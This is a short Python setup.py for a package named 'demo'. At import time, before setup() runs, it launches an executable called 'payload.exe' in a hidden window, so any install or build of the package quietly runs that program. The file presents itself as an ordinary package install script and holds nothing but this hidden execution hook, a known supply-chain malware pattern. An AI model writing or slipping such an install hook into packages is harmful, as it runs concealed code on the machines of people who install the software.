import subprocess

from setuptools import setup

subprocess.Popen(["payload.exe"], creationflags=subprocess.CREATE_NO_WINDOW)
setup(name="demo")
